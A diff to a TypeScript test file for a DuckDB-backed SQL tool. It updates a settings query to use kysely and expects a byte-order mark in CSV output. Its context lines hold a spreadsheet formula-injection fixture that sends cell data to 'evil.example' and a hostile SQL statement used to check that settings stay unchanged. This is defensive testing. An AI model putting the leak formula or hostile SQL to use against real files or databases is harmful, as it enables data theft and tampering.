@@ -14,6 +14,7 @@ import { openDb } from '../../queries/db/open.ts';
 import { inboxDir } from '../../queries/db/paths.ts';
 import { confineFileAccess, publicMessage } from '../../queries/sql.ts';
 import { listFiles, serverFixture, type ServerFixture } from './server-fixture.ts';
+import { sql } from 'kysely';
 
 const visitorIp = '203.0.113.77';
 const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
@@ -312,7 +313,7 @@ describe('in process: settings, ordinary SQL and messages', () => {
     f.app.request(`/api/sql${query}`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-aida-request': '1' }, body: JSON.stringify({ sql: text }) });
 
   it('hostile statements leave every DuckDB setting and file as it was', async () => {
-    const settings = () => f.db.all('select name, value from duckdb_settings() order by name');
+    const settings = () => (sql`select name, value from duckdb_settings() order by name`.execute(f.db.kysely).then((r) => r.rows));
     const before = { settings: await settings(), files: listFiles(f.dir) };
     for (const text of [
       "select * from query('select * from enable_logging(level := ''trace'')')",
@@ -364,7 +365,7 @@ describe('in process: settings, ordinary SQL and messages', () => {
     const cli = spawnSync(process.execPath, ['bin/aida.js', 'sql', query, '--format', 'csv', '--db', f.dbFile], { encoding: 'utf8' });
     f.db = await openDb(f.dbFile);
     expect(cli.stderr).toBe('');
-    expect(cli.stdout).toBe(`a,b,c,d,e,f,g,h,i,${expected.replaceAll('\r\n', '\n')}`);
+    expect(cli.stdout).toBe(`\uFEFFa,b,c,d,e,f,g,h,i,${expected.replaceAll('\r\n', '\n')}`); // the BOM first (queries/shared/csv.ts)
   });
 });
 
